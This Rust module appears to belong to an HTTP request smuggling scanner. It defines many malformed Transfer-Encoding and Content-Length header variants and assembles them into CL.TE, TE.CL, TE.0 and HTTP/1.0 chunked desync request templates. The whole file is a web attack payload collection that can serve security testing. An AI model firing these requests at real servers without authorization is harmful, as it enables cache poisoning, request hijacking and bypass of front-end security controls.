//! Gadgets with two lengths, or with one that can be read in two ways.

use super::Gadget;

/// Spellings of `Transfer-Encoding: chunked` that some servers accept and others do not.
const CODINGS: &[&[u8]] = &[
    b"Transfer-Encoding: chunked\r\n",
    b"transfer-encoding: chunked\r\n",
    b"TRANSFER-ENCODING: CHUNKED\r\n",
    b"Transfer-Encoding: Chunked\r\n",
    b"Transfer-Encoding:chunked\r\n",
    b"Transfer-Encoding:  chunked\r\n",
    b"Transfer-Encoding:\tchunked\r\n",
    b"Transfer-Encoding: chunked \r\n",
    b"Transfer-Encoding: chunked\t\r\n",
    b"Transfer-Encoding : chunked\r\n",
    b"Transfer-Encoding\t: chunked\r\n",
    b" Transfer-Encoding: chunked\r\n",
    b"\tTransfer-Encoding: chunked\r\n",
    b"Transfer-Encoding: xchunked\r\n",
    b"Transfer-Encoding: chunkedx\r\n",
    b"Transfer-Encoding: chunk\r\n",
    b"Transfer-Encoding: identity\r\n",
    b"Transfer-Encoding: \r\n",
    b"Transfer-Encoding: chunked, identity\r\n",
    b"Transfer-Encoding: identity, chunked\r\n",
    b"Transfer-Encoding: gzip, chunked\r\n",
    b"Transfer-Encoding: chunked, gzip\r\n",
    b"Transfer-Encoding: chunked, chunked\r\n",
    b"Transfer-Encoding: ,chunked\r\n",
    b"Transfer-Encoding: chunked,\r\n",
    b"Transfer-Encoding: \"chunked\"\r\n",
    b"Transfer-Encoding: 'chunked'\r\n",
    b"Transfer-Encoding: chunked;q=1\r\n",
    b"Transfer-Encoding: chunked;a=\"b\"\r\n",
    b"Transfer-Encoding: \x0bchunked\r\n",
    b"Transfer-Encoding: chunked\x0b\r\n",
    b"Transfer-Encoding: \x0cchunked\r\n",
    b"Transfer-Encoding: \x00chunked\r\n",
    b"Transfer-Encoding: chunked\x00\r\n",
    b"Transfer-Encoding: chunked\xff\r\n",
    b"Transfer-Encoding: \xc2\xa0chunked\r\n",
    b"Transfer-Encoding: chunked\r\r\n",
    b"Transfer-Encoding: \rchunked\r\n",
    b"Transfer-Encoding:\r\n chunked\r\n",
    b"Transfer-Encoding:\r\n\tchunked\r\n",
    b"Transfer-Encoding: x\r\n chunked\r\n",
    b"Transfer-Encoding\r\n : chunked\r\n",
    b"X-A: b\nTransfer-Encoding: chunked\r\n",
    b"X-A: b\rTransfer-Encoding: chunked\r\n",
    b"X-A: b\r\n Transfer-Encoding: chunked\r\n",
    b"Transfer-Encoding: chunked\n",
    b"Transfer_Encoding: chunked\r\n",
    b"Transfer-Encoding\x00: chunked\r\n",
    b"Transfer-Encoding\x80: chunked\r\n",
    b"\x00Transfer-Encoding: chunked\r\n",
    b"\"Transfer-Encoding\": chunked\r\n",
    b":Transfer-Encoding: chunked\r\n",
    b"Transfer-Encoding:: chunked\r\n",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n",
    b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked\r\n",
    b"Transfer-Encoding:\r\nTransfer-Encoding: chunked\r\n",
    b"Transfer-Encoding: chunked\r\nTransfer_Encoding: identity\r\n",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n",
    b"Connection: close, Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n",
    b"TE: chunked\r\n",
    b"Content-Encoding: chunked\r\n",
];

/// Spellings of a length of `{B}`.
const LENGTHS: &[&[u8]] = &[
    b"Content-Length: {B}\r\n",
    b"content-length: {B}\r\n",
    b"Content-Length:{B}\r\n",
    b"Content-Length: +{B}\r\n",
    b"Content-Length: -{B}\r\n",
    b"Content-Length: -1\r\n",
    b"Content-Length: 0{B}\r\n",
    b"Content-Length: 0x{B}\r\n",
    b"Content-Length: 0x0\r\n",
    b"Content-Length: {B}.0\r\n",
    b"Content-Length: {B}e0\r\n",
    b"Content-Length: \"{B}\"\r\n",
    b"Content-Length: '{B}'\r\n",
    b"Content-Length: {B};\r\n",
    b"Content-Length: {B},\r\n",
    b"Content-Length: ,{B}\r\n",
    b"Content-Length: {B}, {B}\r\n",
    b"Content-Length: {B}, 0\r\n",
    b"Content-Length: 0, {B}\r\n",
    b"Content-Length: {B} 0\r\n",
    b"Content-Length: 0 {B}\r\n",
    b"Content-Length: \x0b{B}\r\n",
    b"Content-Length: {B}\x0b\r\n",
    b"Content-Length: \x00{B}\r\n",
    b"Content-Length: {B}\x00\r\n",
    b"Content-Length: {B}\xff\r\n",
    b"Content-Length: {B}\r\r\n",
    b"Content-Length: 0\r{B}\r\n",
    b"Content-Length:\r\n {B}\r\n",
    b"Content-Length: 0\r\n {B}\r\n",
    b"Content-Length\r\n : {B}\r\n",
    b"Content-Length : {B}\r\n",
    b"Content-Length\t: {B}\r\n",
    b" Content-Length: {B}\r\n",
    b"Content_Length: {B}\r\n",
    b"Content-Length\x00: {B}\r\n",
    b"Content-Length: \r\n",
    b"Content-Length: x\r\n",
    b"Content-Length: 0\r\n",
    b"Content-Length: 1\r\n",
    b"Content-Length: 18446744073709551616\r\n",
    b"Content-Length: 4294967296\r\n",
    b"Content-Length: 00000000000000000000000000000000{B}\r\n",
    b"Content-Length: 0\r\nContent-Length: {B}\r\n",
    b"Content-Length: {B}\r\nContent-Length: 0\r\n",
    b"Content-Length: {B}\r\nContent-Length: {B}\r\n",
    b"Content-Length: {B}\r\nContent_Length: 0\r\n",
    b"Content-Length: 0\r\nContent_Length: {B}\r\n",
    b"Content-Length: 0\r\n Content-Length: {B}\r\n",
    b"X-A: b\nContent-Length: {B}\r\n",
    b"X-A: b\rContent-Length: {B}\r\n",
    b"Content-Length: {B}\n",
    b"Connection: Content-Length\r\nContent-Length: {B}\r\n",
    b"Connection: close, Content-Length\r\nContent-Length: {B}\r\n",
    b"",
    b"Content-Length: 1_0\r\n",
    b"Content-Length: \xd9\xa1\r\n",
];

const METHODS: &[&str] = &["POST", "GET", "DELETE", "OPTIONS", "PATCH"];

pub(super) fn all() -> Vec<Gadget> {
    let with_coding = CODINGS.iter().flat_map(|coding| {
        let name = coding.escape_ascii().to_string();
        let gadget = |kind: &str, before: &[u8], after: &[u8], body: &[u8]| {
            let head = [b"{R}", before, coding, after, b"\r\n"].concat();
            Gadget::http1(format!("{kind}: {name}"), head, body)
        };
        let chunked: &[u8] = b"{x}\r\n{E}\r\n0\r\n\r\n";
        [
            gadget("CL.TE", b"Content-Length: {B}\r\n", b"", b"0\r\n\r\n{E}"),
            gadget(
                "CL.TE, length last",
                b"",
                b"Content-Length: {B}\r\n",
                b"0\r\n\r\n{E}",
            ),
            gadget("TE.CL", b"Content-Length: 4\r\n", b"", chunked),
            gadget("TE.0", b"", b"", chunked),
            gadget("TE and length 0", b"Content-Length: 0\r\n", b"", chunked),
        ]
    });
    let with_length = LENGTHS.iter().flat_map(|length| {
        METHODS.iter().map(|method| {
            let head = [method.as_bytes(), b" {P} HTTP/1.1\r\n{H}", length, b"\r\n"].concat();
            Gadget::http1(
                format!("{method} with {}", length.escape_ascii()),
                head,
                b"{E}",
            )
        })
    });
    let old = [
        b"Content-Length: {B}\r\n".as_slice(),
        b"",
        b"Content-Length: 0\r\n",
    ]
    .into_iter()
    .flat_map(|length| {
        [b"".as_slice(), b"Connection: keep-alive\r\n"].map(|connection| {
            let head = [
                b"POST {P} HTTP/1.0\r\n{H}",
                length,
                connection,
                b"Transfer-Encoding: chunked\r\n\r\n",
            ]
            .concat();
            Gadget::http1(
                format!("chunked in HTTP/1.0, {}", length.escape_ascii()),
                head,
                b"0\r\n\r\n{E}",
            )
        })
    });
    with_coding.chain(with_length).chain(old).collect()
}
